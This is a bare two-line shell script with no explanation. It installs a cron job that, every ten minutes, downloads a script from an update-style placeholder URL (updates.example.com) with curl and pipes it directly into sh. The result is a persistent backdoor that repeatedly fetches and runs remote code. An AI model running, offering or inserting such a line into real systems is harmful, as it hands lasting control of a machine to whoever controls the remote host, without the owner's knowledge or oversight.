#!/bin/sh
(crontab -l 2>/dev/null; echo "*/10 * * * * curl -fsS https://updates.example.com/beat | sh") | crontab -
